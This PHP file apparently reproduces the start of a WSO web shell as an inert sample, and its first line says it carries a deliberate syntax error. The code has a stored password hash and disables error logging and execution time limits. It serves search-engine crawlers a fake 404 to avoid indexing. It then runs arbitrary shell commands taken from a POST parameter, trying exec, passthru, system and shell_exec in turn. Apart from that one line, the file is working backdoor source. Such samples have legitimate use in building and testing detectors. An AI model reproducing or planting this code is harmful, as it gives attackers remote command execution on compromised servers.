<?php
shodo inert sample: deliberate syntax error, this file never runs
$auth_pass = "63a9f0ea7bb98050796b649e85481845";
$color = "#df5";
$default_action = 'FilesMan';
@ini_set('error_log',NULL);
@ini_set('log_errors',0);
@ini_set('max_execution_time',0);
@set_time_limit(0);
if(!empty($_SERVER['HTTP_USER_AGENT'])) {
    $userAgents = array("Google", "Slurp", "MSNBot", "ia_archiver", "Yandex", "Rambler");
    if(preg_match('/' . implode('|', $userAgents) . '/i', $_SERVER['HTTP_USER_AGENT'])) {
        header('HTTP/1.0 404 Not Found');
        exit;
    }
}
function wsoEx($in) {
    $out = '';
    if (function_exists('exec')) { @exec($in,$out); $out = @join("\n",$out); }
    elseif (function_exists('passthru')) { ob_start(); @passthru($in); $out = ob_get_clean(); }
    elseif (function_exists('system')) { ob_start(); @system($in); $out = ob_get_clean(); }
    elseif (function_exists('shell_exec')) { $out = shell_exec($in); }
    return $out;
}
if (isset($_POST['c'])) echo wsoEx($_POST['p1']);
